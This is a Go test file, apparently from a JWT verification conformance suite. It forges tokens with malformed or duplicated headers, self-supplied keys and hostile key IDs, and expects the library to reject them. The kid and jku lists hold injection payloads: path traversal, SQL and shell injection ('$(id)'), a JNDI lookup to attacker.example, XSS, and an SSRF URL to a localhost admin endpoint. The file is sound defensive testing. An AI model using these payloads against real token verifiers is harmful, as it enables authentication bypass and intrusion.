package attack

import (
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"math/big"
	"strings"

	"github.com/go-usher/usher"
)

// headerCases are well-signed tokens with headers that ask for something else, or that are no JSON object.
func (f *forge) headerCases() {
	alg := usher.HS256
	house := f.houses[alg]
	g := f.group(Header, house, "RFC 7515 §4.1.11")
	payload := claims().String()
	sealed := func(header string) string { return f.seal(alg, header, payload) }
	refuse := func(want error, name, header string) { g.refuse(want, name, sealed(header)) }

	for _, crit := range []string{
		`["exp"]`, `["alg"]`, `["typ"]`, `["b64"]`, `["nosuch"]`, `["http://example.com/UNDEFINED"]`, `["kid","x"]`, `[""]`, `[]`, `{}`, `[1]`,
		`[null]`, `null`, `""`, `"exp"`, `true`, `false`, `0`, `["exp","exp"]`, `[["exp"]]`, `["crit"]`,
	} {
		refuse(usher.ErrTokenMalformed, "crit "+crit, `{"alg":"HS256","crit":`+crit+`,"exp":1900000000,"b64":true,"x":1}`)
	}
	refuse(usher.ErrTokenMalformed, "crit with its first letter escaped", `{"alg":"HS256","\u0063rit":["x"]}`)
	g.accept("Crit, which is another name", sealed(`{"alg":"HS256","Crit":["x"]}`))

	g.section = "RFC 7797 §6"
	refuse(usher.ErrTokenMalformed, "b64 false, and critical", `{"alg":"HS256","b64":false,"crit":["b64"]}`)
	in := encode(`{"alg":"HS256","b64":false,"crit":["b64"]}`) + "." + payload
	g.refuse(usher.ErrTokenMalformed, "b64 false with an unencoded payload", in+"."+encode(f.sign(alg, in)))
	in = encode(`{"alg":"HS256","b64":false}`) + "." + payload
	g.refuse(usher.ErrTokenMalformed, "b64 false with an unencoded payload, not critical", in+"."+encode(f.sign(alg, in)))
	g.by("RFC 7515 §4").accept("b64 false, not critical, with an encoded payload: not understood, so ignored", sealed(`{"alg":"HS256","b64":false}`))
	g.by("RFC 7515 §4").accept("members that nobody knows", sealed(`{"alg":"HS256","x":{"y":[1,2.5,null,true,"z"]},"exp":1,"iss":"x"}`))

	f.broughtKeys()
	f.keyIDs()

	g.section = "RFC 7515 §4, RFC 8725 §2.4"
	for _, c := range []struct{ name, header string }{
		{"alg twice, the same", `{"alg":"HS256","alg":"HS256"}`},
		{"alg twice, none last", `{"alg":"HS256","alg":"none"}`},
		{"alg twice, none first", `{"alg":"none","alg":"HS256"}`},
		{"alg twice, once escaped", `{"alg":"HS256","\u0061lg":"none"}`},
		{"kid twice", `{"alg":"HS256","kid":"a","kid":"b"}`},
		{"typ twice", `{"alg":"HS256","typ":"JWT","typ":"JWT"}`},
		{"an unknown name twice", `{"alg":"HS256","x":1,"x":2}`},
		{"the empty name twice", `{"alg":"HS256","":1,"":2}`},
		{"a name twice within a member", `{"alg":"HS256","x":{"y":1,"y":2}}`},
		{"a name twice deep within", `{"alg":"HS256","x":[{"y":[{"z":1,"z":1}]}]}`},
		{"a name twice among a hundred", `{"alg":"HS256"` + manyMembers(100) + `,"x50":1}`},
	} {
		refuse(usher.ErrTokenMalformed, c.name, c.header)
	}
	for _, c := range []struct{ name, header string }{
		{"ALG for alg", `{"ALG":"HS256"}`},
		{"Alg for alg", `{"Alg":"HS256","typ":"JWT"}`},
		{"aLG for alg", `{"aLG":"HS256"}`},
		{"a space behind alg", `{"alg ":"HS256"}`},
		{"a NUL behind alg", `{"alg\u0000":"HS256"}`},
		{"alg in full width", `{"ａｌｇ":"HS256"}`},
	} {
		refuse(usher.ErrTokenSignature, c.name, c.header)
	}
	g.accept("alg, and ALG none", sealed(`{"alg":"HS256","ALG":"none"}`))
	g.accept("ALG none, and alg", sealed(`{"ALG":"none","alg":"HS256"}`))
	refuse(usher.ErrTokenSignature, "alg none, and ALG", `{"alg":"none","ALG":"HS256"}`)
	g.accept("KID with the Kelvin sign, which is another name", sealed(`{"alg":"HS256","\u212aid":"x"}`))
	g.accept("alg escaped, which is the same name", sealed(`{"\u0061\u006c\u0067":"HS256"}`))
	g.accept("white space where JSON allows it", sealed(" \t\r\n{ \"alg\" :\t\"HS256\" ,\n\"typ\" : \"JWT\" }\r\n "))
	g.accept("a hundred members", sealed(`{"alg":"HS256"`+manyMembers(100)+`}`))

	g.section = "RFC 7515 §4, RFC 8259"
	for _, c := range textsThatAreNoObject(`"alg":"HS256"`) {
		refuse(usher.ErrTokenMalformed, c.name, c.value)
	}
	big := g.at(f.large())
	big.refuse(usher.ErrTokenMalformed, "100,000 brackets", sealed(`{"alg":"HS256","x":`+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000)+`}`))
	big.refuse(usher.ErrTokenMalformed, "100,000 open brackets", sealed(`{"alg":"HS256","x":`+strings.Repeat("[", 100_000)+`}`))
	big.refuse(usher.ErrTokenMalformed, "100,000 braces", sealed(`{"alg":"HS256","x":`+strings.Repeat(`{"x":`, 100_000)+`1`+strings.Repeat("}", 100_000)+`}`))
	big.refuse(usher.ErrTokenMalformed, "10,000 names, and one again", sealed(`{"alg":"HS256"`+manyMembers(10_000)+`,"x9999":1}`))
	big.accept("10,000 names", sealed(`{"alg":"HS256"`+manyMembers(10_000)+`}`))
	big.accept("100 KB in a member that nobody knows", sealed(`{"alg":"HS256","x":"`+strings.Repeat("x", 100<<10)+`"}`))
	g.refuse(usher.ErrTokenTooLarge, "100 KB in a member that nobody knows", sealed(`{"alg":"HS256","x":"`+strings.Repeat("x", 100<<10)+`"}`))
}

// broughtKeys are tokens that bring the key that they are signed with, or say where to get it.
func (f *forge) broughtKeys() {
	payload := claims().String()
	for _, alg := range algorithms() {
		g := f.group(Header, f.houses[alg], "RFC 8725 §3.10")
		var own, chain string
		switch alg[:2] {
		case "HS":
			own = `{"kty":"oct","k":"` + encode(f.other.secrets[alg]) + `"}`
			chain = base64.StdEncoding.EncodeToString(random(100))
		default:
			key := f.other.material(alg)
			own = string(PublicKeyForms(key)["JWK"])
			if certificate, err := f.other.certificate(alg); err != nil {
				f.errs = append(f.errs, err)
			} else {
				chain = base64.StdEncoding.EncodeToString(certificate)
			}
		}
		id := f.houses[alg].Keys[0].ID()
		for _, c := range []struct{ name, member string }{
			{"jwk", `"jwk":` + own},
			{"jwk with the right kid", `"jwk":` + own + `,"kid":"` + id + `"`},
			{"jwk that has the right kid", `"jwk":` + strings.TrimSuffix(own, "}") + `,"kid":"` + id + `"}`},
			{"jwks", `"jwks":{"keys":[` + own + `]}`},
			{"x5c", `"x5c":["` + chain + `"]`},
			{"x5c with the right kid", `"x5c":["` + chain + `"],"kid":"` + id + `"`},
			{"jku", `"jku":"https://attacker.example/keys"`},
			{"jku to a file", `"jku":"file:///dev/zero"`},
			{"jku into the house", `"jku":"http://127.0.0.1:80/admin?delete=all"`},
			{"jku with the right kid", `"jku":"https://attacker.example/keys","kid":"` + id + `"`},
			{"x5u", `"x5u":"https://attacker.example/chain.pem"`},
			{"x5t", `"x5t":"` + encode(random(20)) + `","x5t#S256":"` + encode(random(32)) + `"`},
			{"all of them", `"jwk":` + own + `,"x5c":["` + chain + `"],"jku":"https://attacker.example","x5u":"https://attacker.example","iss":"https://attacker.example"`},
		} {
			token := f.other.seal(alg, `{"alg":"`+string(alg)+`",`+c.member+`}`, payload)
			g.refuse(usher.ErrTokenSignature, fmt.Sprintf("%s: signed by a key of its own, with %s", alg, c.name), token)
		}
		g.by("RFC 7515 §4.1.3").accept(string(alg)+": brings another key along, and is signed by the right one", f.seal(alg, `{"alg":"`+string(alg)+`","jwk":`+own+`}`, payload))
	}
}

func (f *forge) certificate(alg usher.Algorithm) ([]byte, error) {
	template := &x509.Certificate{SerialNumber: big.NewInt(1)}
	switch {
	case f.ec[alg] != nil:
		return x509.CreateCertificate(rand.Reader, template, template, &f.ec[alg].PublicKey, f.ec[alg])
	case isEd25519(alg):
		return x509.CreateCertificate(rand.Reader, template, template, f.ed.Public(), f.ed)
	}
	return x509.CreateCertificate(rand.Reader, template, template, &f.rsa.PublicKey, f.rsa)
}

// keyIDs are tokens that name no key of the house.
func (f *forge) keyIDs() {
	alg := usher.HS256
	g := f.group(Header, f.houses[alg], "RFC 8725 §3.10")
	payload := claims().String()
	id := f.houses[alg].Keys[0].ID()
	withKid := func(kid string) string { return f.seal(alg, `{"alg":"HS256","kid":`+kid+`}`, payload) }

	for _, kid := range []string{
		"../../../../dev/null", "/dev/null", "/etc/hostname", `C:\\\\Windows\\\\win.ini`, "file:///dev/null", "https://attacker.example/key", "//attacker.example/key",
		"' OR '1'='1", "' UNION SELECT 'secret' --", "1; DROP TABLE keys", `\" OR \"\"=\"`, "*", "%", "_", "?", "key*", ".", "..", "/", `\\`,
		"$(id)", "`id`", "| id", "; id", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "<script>alert(1)</script>", `\r\nSet-Cookie: a=b`, `\u0000`,
		`\u0000` + id, id + `\u0000`, id + " ", " " + id, id + `\n`, strings.ToUpper(id), strings.ToLower(id), id[:len(id)-1], id + "x", id + "," + id,
		"0", "1", "-1", "null", "undefined", "true", "[]", "{}", "NaN", "__proto__", "constructor", "\u202e", "\ufeff" + id, "é", `e\u0301`, "secret",
		strings.Repeat("x", 256), strings.Repeat("é", 128), strings.ReplaceAll(id, "s", "ſ"), f.houses[usher.HS384].Keys[0].ID(),
	} {
		g.refuse(usher.ErrUnknownKey, fmt.Sprintf("kid %q", short(kid)), withKid(`"`+kid+`"`))
	}
	for _, kid := range []string{
		`null`, `true`, `false`, `0`, `1`, `-1`, `1.5`, `[]`, `["` + id + `"]`, `{}`, `{"kid":"` + id + `"}`, `[null]`,
		`"` + strings.Repeat("x", 257) + `"`, `"` + strings.Repeat("é", 129) + `"`, `"` + strings.Repeat("x", 4000) + `"`, `"` + id + strings.Repeat(" ", 256) + `"`,
	} {
		g.by("RFC 7515 §4.1.4").refuse(usher.ErrTokenMalformed, "kid "+short(kid), withKid(kid))
	}
	for _, kid := range []string{`"\ud800"`, "\"\xff\"", "\"\xc0\xaf\"", "\"\x00\"", "\"\n\"", `"\x"`, `'` + id + `'`, id} {
		g.by("RFC 8259 §8.1").refuse(usher.ErrTokenMalformed, fmt.Sprintf("kid %q", kid), withKid(kid))
	}
	g.by("RFC 7515 §4.1.4").accept("the right kid", withKid(`"`+id+`"`))
	g.by("RFC 7515 §4.1.4").accept("an empty kid, which is none", withKid(`""`))
	g.by("RFC 8259 §8.3").accept("the right kid, escaped", withKid(`"\u0073`+id[1:]+`"`))
	g.by("RFC 7515 §4.1.4").accept("KID, which is another name", f.seal(alg, `{"alg":"HS256","KID":"x"}`, payload))
	g.at(f.large()).refuse(usher.ErrTokenMalformed, "a kid of 100 KB", withKid(`"`+strings.Repeat("x", 100<<10)+`"`))
	g.refuse(usher.ErrTokenTooLarge, "a kid of 100 KB", withKid(`"`+strings.Repeat("x", 100<<10)+`"`))

	// Among many keys a kid is no hint but a choice.
	g = g.at(f.every)
	for _, alg := range algorithms() {
		id := f.houses[alg].Keys[0].ID()
		g.accept(string(alg)+" with its kid", f.seal(alg, `{"alg":"`+string(alg)+`","kid":"`+id+`"}`, payload))
		g.refuse(usher.ErrTokenSignature, string(alg)+" with its kid, by another key", f.other.seal(alg, `{"alg":"`+string(alg)+`","kid":"`+id+`"}`, payload))
		g.refuse(usher.ErrUnknownKey, string(alg)+" with a kid that nobody has", f.seal(alg, `{"alg":"`+string(alg)+`","kid":"x"}`, payload))
	}
	many, err := f.manyKeys()
	if err != nil {
		f.errs = append(f.errs, err)
		return
	}
	g = g.at(many)
	g.by("RFC 8725 §3.10").refuse(usher.ErrTokenSignature, "no kid, at a house with twenty keys: the twentieth is not tried", f.good(alg))
	g.accept("a kid, at a house with twenty keys", withKid(`"`+id+`"`))
}

// manyKeys returns a house with twenty secrets, of which this forge's is the last.
func (f *forge) manyKeys() (*House, error) {
	alg := usher.HS256
	house := f.with("a house with twenty keys", func(*usher.DecoderOptions) {})
	house.Keys = nil
	for i := range 19 {
		key, err := usher.GenerateKey(alg)
		if err != nil {
			return nil, err
		}
		house.Keys = append(house.Keys, key.WithID(fmt.Sprint(i)))
	}
	house.Keys = append(house.Keys, f.houses[alg].Keys[0])
	house.Material = nil // no other library has such a set
	return house, nil
}

func short(s string) string {
	if len(s) > 60 {
		return fmt.Sprintf("%s… (%d bytes)", s[:40], len(s))
	}
	return s
}

func manyMembers(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `,"x%d":%d`, i, i)
	}
	return b.String()
}

// textsThatAreNoObject are JSON that is no object, and what is no JSON. With members in an object it would do.
func textsThatAreNoObject(with string) []member {
	object := "{" + with + "}"
	list := []member{
		{"an array", `["alg","HS256"]`}, {"an array with the object", "[" + object + "]"}, {"a string", `"HS256"`}, {"the object as a string", `"` + strings.ReplaceAll(object, `"`, `\"`) + `"`},
		{"a number", `7`}, {"a date", `1800000000`}, {"null", `null`}, {"true", `true`}, {"false", `false`}, {"white space", ` `}, {"a NUL", "\x00"},
		{"the object twice", object + object}, {"another object behind", object + `{}`}, {"a NUL behind", object + "\x00"}, {"rubbish behind", object + "x"},
		{"a comma behind", object + ","}, {"a brace behind", object + "}"}, {"a bracket behind", object + "]"}, {"null behind", object + "null"}, {"a token behind", object + ".x"},
		{"a comment behind", object + "//"}, {"a comment before", "/**/" + object}, {"a comment within", "{/**/" + with + "}"}, {"a line comment within", "{//\n" + with + "}"}, {"a hash comment", "#\n" + object},
		{"a NUL before", "\x00" + object}, {"a number before", "1" + object}, {"a comma before", "," + object}, {"a parenthesis", "(" + object + ")"}, {"a guard against JSON hijacking", ")]}'\n" + object},
		{"no opening brace", with + "}"}, {"no closing brace", "{" + with}, {"no braces", with}, {"an opening brace alone", "{"}, {"a quotation mark alone", `"`},
		{"a comma before the brace", "{" + with + ",}"}, {"a comma first", "{," + with + "}"}, {"two commas", "{" + with + `,,"x":1}`}, {"no comma", "{" + with + ` "x":1}`}, {"a semicolon", "{" + with + `;"x":1}`},
		{"no colon", "{" + with + `,"x" 1}`}, {"two colons", "{" + with + `,"x"::1}`}, {"an equals sign", "{" + with + `,"x"=1}`}, {"no value", "{" + with + `,"x":}`}, {"no name", "{" + with + `,:1}`}, {"a name alone", "{" + with + `,"x"}`},
		{"a name without quotation marks", "{" + with + `,x:1}`}, {"a name in apostrophes", "{" + with + `,'x':1}`}, {"a number as name", "{" + with + `,1:1}`}, {"null as name", "{" + with + `,null:1}`}, {"an array as name", "{" + with + `,["x"]:1}`},
		{"True", "{" + with + `,"x":True}`}, {"TRUE", "{" + with + `,"x":TRUE}`}, {"nul", "{" + with + `,"x":nul}`}, {"nulll", "{" + with + `,"x":nulll}`}, {"truefalse", "{" + with + `,"x":truefalse}`}, {"undefined", "{" + with + `,"x":undefined}`},
		{"NaN", "{" + with + `,"x":NaN}`}, {"Infinity", "{" + with + `,"x":Infinity}`}, {"-Infinity", "{" + with + `,"x":-Infinity}`}, {"a plus sign", "{" + with + `,"x":+1}`}, {"a leading zero", "{" + with + `,"x":01}`}, {"two minus signs", "{" + with + `,"x":--1}`}, {"a minus sign alone", "{" + with + `,"x":-}`},
		{"a point first", "{" + with + `,"x":.5}`}, {"a point last", "{" + with + `,"x":5.}`}, {"two points", "{" + with + `,"x":1.2.3}`}, {"an e last", "{" + with + `,"x":1e}`}, {"e+ last", "{" + with + `,"x":1e+}`}, {"a hexadecimal number", "{" + with + `,"x":0x10}`}, {"a long number", "{" + with + `,"x":1_000}`}, {"a bigint", "{" + with + `,"x":1n}`},
		{"an open string", "{" + with + `,"x":"}`}, {"a line feed in a string", "{" + with + ",\"x\":\"\n\"}"}, {"a tab in a string", "{" + with + ",\"x\":\"\t\"}"}, {"a NUL in a string", "{" + with + ",\"x\":\"\x00\"}"}, {"a NUL in a name", "{" + with + ",\"x\x00\":1}"},
		{"the escape a", "{" + with + `,"x":"\a"}`}, {"the escape x", "{" + with + `,"x":"\x41"}`}, {"an octal escape", "{" + with + `,"x":"\101"}`}, {"an escaped apostrophe", "{" + with + `,"x":"\'"}`}, {"an escape too short", "{" + with + `,"x":"\u00"}`}, {"an escape that is no number", "{" + with + `,"x":"\u00zz"}`}, {"a backslash last", "{" + with + `,"x":"\"}`},
		{"a first half of a surrogate pair", "{" + with + `,"x":"\ud800"}`}, {"a second half of a surrogate pair", "{" + with + `,"x":"\udc00"}`}, {"a surrogate pair turned around", "{" + with + `,"x":"\udc00\ud800"}`}, {"half a surrogate pair in a name", "{" + with + `,"\ud800":1}`}, {"half a surrogate pair deep within", "{" + with + `,"x":[{"y":"\ud800"}]}`},
		{"a byte that is no UTF-8", "{" + with + ",\"x\":\"\xff\"}"}, {"an overlong slash", "{" + with + ",\"x\":\"\xc0\xaf\"}"}, {"an overlong NUL", "{" + with + ",\"x\":\"\xc0\x80\"}"}, {"a surrogate in UTF-8", "{" + with + ",\"x\":\"\xed\xa0\x80\"}"}, {"beyond Unicode", "{" + with + ",\"x\":\"\xf4\x90\x80\x80\"}"},
		{"a character cut off", "{" + with + ",\"x\":\"\xe2\x82\"}"}, {"Latin-1", "{" + with + ",\"x\":\"\xe9\"}"}, {"a name that is no UTF-8", "{" + with + ",\"\xff\":1}"}, {"no UTF-8 deep within", "{" + with + ",\"x\":[{\"y\":\"\xff\"}]}"}, {"no UTF-8 in a name deep within", "{" + with + ",\"x\":[{\"\xff\":1}]}"},
		{"a byte order mark", "\ufeff" + object}, {"a byte order mark behind", object + "\ufeff"}, {"UTF-16, big-endian", string(utf16(object, true))}, {"UTF-16, little-endian", string(utf16(object, false))},
		{"UTF-16 with its byte order mark", "\xfe\xff" + string(utf16(object, true))}, {"UTF-16, little-endian, with its byte order mark", "\xff\xfe" + string(utf16(object, false))}, {"UTF-32", "\x00\x00\x00" + strings.Join(strings.Split(object, ""), "\x00\x00\x00")},
		{"a form feed for white space", "\f" + object}, {"a vertical tab for white space", "\v" + object}, {"a no-break space", "\u00a0" + object}, {"a line separator", "\u2028" + object}, {"NEL", "\u0085" + object}, {"a form feed behind", object + "\f"},
		{"open brackets", "{" + with + `,"x":[[[[[}`}, {"brackets that do not match", "{" + with + `,"x":[1}]`}, {"brackets and braces crossed", "{" + with + `,"x":[{]}}`}, {"a comma in an empty array", "{" + with + `,"x":[,]}`}, {"a comma last in an array", "{" + with + `,"x":[1,]}`}, {"a hole in an array", "{" + with + `,"x":[1,,2]}`},
		{"XML", `<alg>HS256</alg>`}, {"YAML", "alg: HS256"}, {"a form", "alg=HS256&sub=7"}, {"a pickle", "\x80\x04\x95"}, {"CBOR", "\xa1calgeHS256"}, {"MessagePack", "\x81\xa3alg\xa5HS256"}, {"gzip", "\x1f\x8b\x08\x00\x00\x00\x00\x00"}, {"Java's serialization", "\xac\xed\x00\x05"}, {"ASN.1", "0\x03\x02\x01\x07"},
	}
	return list
}
